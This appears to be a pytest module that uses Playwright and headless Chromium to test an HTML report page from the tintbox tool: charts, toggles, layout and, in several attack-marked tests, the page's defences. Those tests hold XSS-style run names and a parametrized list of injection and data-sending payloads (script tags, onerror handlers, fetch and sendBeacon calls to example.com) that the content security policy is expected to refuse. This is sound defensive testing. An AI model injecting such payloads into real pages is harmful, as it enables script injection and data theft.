"""The page in a real browser: headless Chromium without network access."""

import re
import shutil

import pytest

from tintbox.reports.command import report

NAMES = ("chromium", "chromium-browser", "google-chrome")
SECONDS = 20
READY = "document.querySelectorAll('.plot').length === document.querySelectorAll('.plot[data-ready]').length"


@pytest.fixture(scope="module")
def browser():
    api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    program = next(filter(None, map(shutil.which, NAMES)), None)
    if program is None:
        pytest.skip(f"no browser: none of {', '.join(NAMES)} is installed")
    with api.sync_playwright() as play:
        started = play.chromium.launch(executable_path=program, args=["--no-sandbox"])
        yield started
        started.close()


@pytest.fixture(scope="module")
def file(detector, stock, trained, tmp_path_factory):
    """A report on two detectors and a colouriser whose names contain HTML."""
    folder = tmp_path_factory.mktemp("runs") / "<script>document.title='broken'<b>"
    shutil.copytree(detector, folder)
    return report([str(folder), str(stock), str(trained)], out=tmp_path_factory.mktemp("page") / "report.html", n=2)


@pytest.fixture
def page(browser, file):
    """The opened page; any console error or request fails the test."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    opened, complaints, requests = context.new_page(), [], []
    opened.on("console", lambda message: complaints.append(f"{message.type}: {message.text}"))
    opened.on("pageerror", lambda error: complaints.append(str(error)))
    opened.on("request", lambda request: requests.append(request.url))
    opened.goto(file.as_uri())
    wait_for(opened, READY)
    yield opened
    assert complaints == []
    assert [url for url in requests if not url.startswith(("data:", "blob:"))] == [file.as_uri()]
    context.close()


def wait_for(page, condition):
    """Wait until an expression is true; Playwright's own waiting needs the `eval` that the page forbids itself."""
    for _ in range(SECONDS * 20):
        if page.evaluate(condition):
            return
        page.wait_for_timeout(50)
    pytest.fail(f"not within {SECONDS} s: {condition}")


def traces(page):
    """The number of traces drawn in each figure of curves, by the figure's id."""
    count = "figures => Object.fromEntries(figures.map(f => [f.id, f.querySelectorAll('.scatterlayer .trace').length]))"
    return page.eval_on_selector_all(".plot[id*='-curve-']", count)


def until(page, expected):
    """Wait until the figures show this many traces; Plotly draws them one after the other."""
    for _ in range(SECONDS * 20):
        if (found := traces(page)) == expected:
            return
        page.wait_for_timeout(50)
    pytest.fail(f"not within {SECONDS} s: {found}, expected {expected}")


def shown(page, run):
    """The number of visible elements about a run, and their total number."""
    found = page.locator(f"main [data-run='{run}']").filter(visible=True)
    return found.count(), page.locator(f"main [data-run='{run}']").count()


def test_curves_are_drawn(page):
    found = traces(page)
    assert len([name for name in found if name.startswith("section-0-")]) >= 8
    assert len([name for name in found if name.startswith("section-1-")]) >= 5
    assert all(count > 0 for count in found.values()), found
    # Every trace is a line or points with an area on the page, not an empty group.
    empty = "g => g.getBBox().width + g.getBBox().height === 0 && !g.querySelector('.point')"
    assert page.eval_on_selector_all(".scatterlayer .trace", f"groups => groups.filter({empty}).length") == 0
    assert page.locator("#section-0-errors-bbox .barlayer .trace").count() == 1
    picture = page.screenshot(full_page=True)
    assert len(picture) > 100_000


def test_a_run_is_switched_off_and_on(page):
    before, (visible, there) = traces(page), shown(page, 0)
    others = shown(page, 1)[0]
    assert 0 < visible <= there  # rows in the collapsed arguments exist but are not visible
    box = page.locator("input[data-toggle='0']")
    box.uncheck()
    halved = {name: count / 2 if name.startswith("section-0-") else count for name, count in before.items()}
    until(page, halved)
    assert shown(page, 0)[0] == 0 and shown(page, 1)[0] == others
    box.check()
    until(page, before)
    assert shown(page, 0)[0] == visible


def test_the_legend_switches_too(page):
    legend = page.locator("#section-0-curve-0 .legend .traces").nth(1)
    legend.locator(".legendtoggle").click(force=True)
    wait_for(page, "!document.querySelector(\"input[data-toggle='1']\").checked")
    assert shown(page, 1)[0] == 0
    page.locator("#section-0-curve-0 .legend .traces").nth(1).locator(".legendtoggle").click(force=True)
    wait_for(page, "document.querySelector(\"input[data-toggle='1']\").checked")
    assert shown(page, 1)[0] > 0


def test_names_are_text(page):
    assert page.title().startswith("<script>document.title='broken'<b> against ")
    assert page.locator("label", has_text="<script>document.title='broken'<b>").count() == 1
    legend = page.locator("#section-0-curve-0 .legend .traces text").first
    assert legend.text_content() == "<script>document.title='broken'<b>"
    assert page.locator("#section-0-classes-bbox .ytick text").all_text_contents() == ["red", "<b>gr&een</b>"]


def test_dark_and_narrow(browser, file):
    context = browser.new_context(viewport={"width": 360, "height": 700}, color_scheme="dark")
    page = context.new_page()
    page.goto(file.as_uri())
    wait_for(page, READY)
    assert page.evaluate("document.documentElement.scrollWidth") == 360  # wide tables scroll inside their own boxes
    ink = "getComputedStyle(document.querySelector('#section-0-curve-0 .xtick text')).fill"
    assert page.evaluate(ink) == "rgb(231, 234, 237)"
    page.emulate_media(color_scheme="light")
    wait_for(page, f"{ink} === 'rgb(27, 31, 36)'")
    context.close()


# Every way for a page to send something, except its own requests, which Playwright sees.
WATCH = """
window.sent = [];
for (const [owner, name] of [[window, "open"], [window, "fetch"], [navigator, "sendBeacon"],
                             [XMLHttpRequest.prototype, "send"], [HTMLFormElement.prototype, "submit"],
                             [window, "WebSocket"], [window, "EventSource"]]) {
  const own = owner[name];
  owner[name] = function (...words) { window.sent.push(name + " " + words); return own.apply(this, words); };
}
addEventListener("submit", event => window.sent.push("submit " + event.target.action), true);
addEventListener("securitypolicyviolation", event => window.sent.push("refused " + event.blockedURI));
"""


@pytest.fixture
def watched(browser, file):
    """The page, with everything that leaves it: requests, windows, forms, and violations of its policy."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    context.add_init_script(WATCH)
    page, left = context.new_page(), []
    context.on("request", lambda request: left.append(request.url))
    context.on("page", lambda window: left.append(f"window {window.url}"))
    page.on("download", lambda download: saved.append(download.suggested_filename))
    saved = page.saved = []
    page.goto(file.as_uri())
    wait_for(page, READY)
    yield page
    assert page.evaluate("window.sent") == []
    assert [url for url in left if not url.startswith(("data:", "blob:", file.as_uri()))] == []
    context.close()


@pytest.mark.attack("report page")
def test_no_button_sends_anything(watched):
    """Click every button of every chart and of the page: a chart's image is saved, and nothing is sent."""
    labels = set()
    charts = watched.locator(".plot")
    for place in range(charts.count()):
        chart = charts.nth(place)
        chart.scroll_into_view_if_needed()
        chart.hover()
        buttons = chart.locator(".modebar-btn")
        assert buttons.count() == 7
        for number in range(buttons.count()):
            labels.add(buttons.nth(number).get_attribute("data-title"))
            buttons.nth(number).evaluate("button => button.click()")
    assert not [
        label for label in labels if any(word in label.lower() for word in ("share", "cloud", "edit", "studio"))
    ]
    for control in (
        ".runs button",
        ".runs input",
        "summary",
    ):  # Plotly's temporary notifications have one, too
        for element in watched.locator(control).all():
            element.click(force=True)
    for link in watched.locator("a[href]:not(.plot *)").all():
        link.evaluate("link => link.click()")
    for _ in range(100):
        if len(watched.saved) >= charts.count():
            break
        watched.wait_for_timeout(50)
    assert watched.saved and all(name.endswith(".png") for name in watched.saved)


@pytest.mark.attack("report page")
def test_the_upload_of_plotly_is_off(watched):
    """Not only is its button missing: without an address, it has no destination."""
    context = watched.evaluate(
        "(g => [g._context.showSendToCloud, g._context.plotlyServerURL])(document.querySelector('.plot'))"
    )
    assert context == [False, ""]


@pytest.fixture(scope="module")
def attacked(browser, file):
    """One page for all attempts at it, and the requests that it made."""
    context = browser.new_context()
    page, requests = context.new_page(), []
    page.on("request", lambda request: requests.append(request))
    page.goto(file.as_uri())
    page.evaluate("addEventListener('securitypolicyviolation', () => { window.refused = true; })")
    yield page, requests
    context.close()


@pytest.mark.attack("report page")
@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
        "document.body.appendChild(Object.assign(document.createElement('script'), {textContent: 'window.ran = 1'}))",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'data:text/javascript,ran=1'}))",
        "document.head.appendChild(Object.assign(document.createElement('base'), {href: 'https://example.com/'}))",
        "fetch('https://example.com/').catch(() => {})",
        "new Image().src = 'https://example.com/a.png'",
        "navigator.sendBeacon('https://example.com/', 'data')",
        "(f => { document.body.append(f); f.submit(); })(Object.assign(document.createElement('form'), {action: 'https://example.com/'}))",
        "document.body.appendChild(Object.assign(document.createElement('iframe'), {src: 'https://example.com/'}))",
        "document.body.appendChild(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'https://example.com/a.css'}))",
    ],
)
def test_the_policy_refuses_what_is_put_in(attacked, file, attempt):
    """Whatever HTML gets into the page, the browser runs none of its scripts and sends nothing for it."""
    page, requests = attacked
    page.evaluate(f"() => {{ window.refused = false; {attempt} }}")
    wait_for(page, "window.refused === true")
    assert page.evaluate("window.ran") is None
    # Playwright also reports requests that the policy stopped before they were sent, with the reason.
    assert page.url == file.as_uri()
    assert not [request.url for request in requests if "example.com" in request.url and request.failure != "csp"]


@pytest.mark.attack("report page")
def test_no_file_names_an_element(browser, made, tmp_path):
    """A task, a class or a run may have the same name as an element of the page."""
    runs = [
        made(name, {"task": name}, **{"metrics__mAP50-95(B)": [0.25, 0.5]})
        for name in ("figures", "page-data", "section-0")
    ]
    context = browser.new_context()
    page = context.new_page()
    page.goto(report([str(run) for run in runs], out=tmp_path / "r.html", pictures=False).as_uri())
    wait_for(page, f"{READY} && document.querySelectorAll('.plot').length > 2")
    ids = page.eval_on_selector_all("[id]", "all => all.filter(e => !e.closest('svg')).map(e => e.id)")
    own = re.compile(r"page-data|section-\d(-title|-curve-\d+)?|plotly.js-style-[\w-]+|modebar-[0-9a-f]+|[0-9a-f]{64}")
    assert ids and not [name for name in ids if not own.fullmatch(name)]
    context.close()


@pytest.mark.attack("report page")
def test_a_wide_table_shows_that_it_goes_on(page):
    """At 1,280 pixels the summary is wider than its box: a shadow at its edge says so, and its first column stays."""
    box = page.locator("section .box").first
    wide = box.evaluate("box => box.scrollWidth - box.clientWidth")
    shadow = box.evaluate("box => getComputedStyle(box).backgroundImage")
    assert "gradient" in shadow
    if wide > 0:
        left = box.locator("tbody th").first.bounding_box()["x"]
        box.evaluate("box => { box.scrollLeft = 200; }")
        assert box.locator("tbody th").first.bounding_box()["x"] == left
